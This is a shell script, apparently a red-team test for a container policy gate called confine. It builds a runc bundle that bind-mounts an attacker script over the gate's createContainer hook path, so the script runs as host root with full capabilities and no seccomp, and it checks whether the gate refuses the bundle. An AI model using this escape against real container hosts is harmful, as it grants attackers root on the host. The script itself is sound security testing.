#!/bin/sh
# found-2: host root code execution through confine's OWN hook at the
# createContainer stage. The hooks rule accepts confine-hook (hook_path +
# `confine-hook --policy <this policy>`, env PATH only) at any stage but
# startContainer. runc 1.1 runs createContainer hooks from the container's
# init, inside the container's mount namespace, after all spec mounts are
# made and before pivot_root. With root.path = an ancestor of hook_path
# (here W/usrlocal, as /usr/local is for /usr/local/libexec/confine/confine-hook;
# read-only root passes mounts.readonly_subtrees) and a bind mount of an
# attacker file at the hook's place, runc executes the attacker's file as
# root with every capability and no seccomp, with the host's filesystem
# in view. Exit 0: container allowed and W/PWNED written by that code; 1: refused.
set -u
SRC=${ROOT:?}; BUILD=${BUILD:?}
W=$(mktemp -d /tmp/confine-redteam2.XXXXXX)
trap 'rm -rf "$W"' EXIT
R=$W/usrlocal                      # plays /usr/local
HOOK=$R/libexec/confine/confine-hook
mkdir -p $R/libexec/confine $R/bin $R/proc $R/dev $R/sys $W/cache
chmod 700 $W/cache
cp $BUILD/confine-hook $HOOK
cp /bin/busybox $R/bin/; for c in sh cat grep; do ln -s busybox $R/bin/$c; done
python3 - "$SRC" "$W" "$HOOK" <<'PY'
import json,sys
src,w,hook=sys.argv[1:]
p=json.load(open(src+'/config/policy.json'))
p.update(securityfs=w+'/nosfs', hook_path=hook, cache_dir=w+'/cache', decision_log=w+'/decisions.log')
p['seccomp']['default_profile']=src+'/profiles/seccomp/default.json'
p['apparmor']['when_unavailable']='skip'
json.dump(p,open(w+'/policy.json','w'))
PY
chmod 600 $W/policy.json
# attacker's file in some allowed host place (a volume another container wrote)
printf '#!/bin/sh\n{ id; grep -E "CapEff|Seccomp:" /proc/self/status; } > %s/PWNED\nexit 0\n' "$W" > $W/evil.sh
chmod 755 $W/evil.sh
B=$W/bundle; mkdir -p $B; (cd $B && runc spec)
python3 - "$B" "$W" "$R" "$HOOK" <<'PY'
import json,sys
b,w,r,hook=sys.argv[1:]
c=json.load(open(b+'/config.json'))
c['process']['terminal']=False
c['process']['args']=['sh','-c','echo container ran']
c['root']={'path':r,'readonly':True}
c['mounts'].append({'destination':'/libexec/confine/confine-hook','type':'bind','source':w+'/evil.sh','options':['bind','ro']})
c['hooks']={'createContainer':[{'path':hook,'args':['confine-hook','--policy',w+'/policy.json']}]}
json.dump(c,open(b+'/config.json','w'))
PY
CONFINE_POLICY=$W/policy.json $BUILD/confine-runtime --root $W/runc run -b $B f2-$$; rc=$?
if [ $rc -eq 0 ] && [ -s $W/PWNED ]; then
  echo "ATTACK WORKED: spec-supplied code ran as host root:"; cat $W/PWNED; exit 0; fi
echo "gate refused or attack failed (rc=$rc)"; exit 1
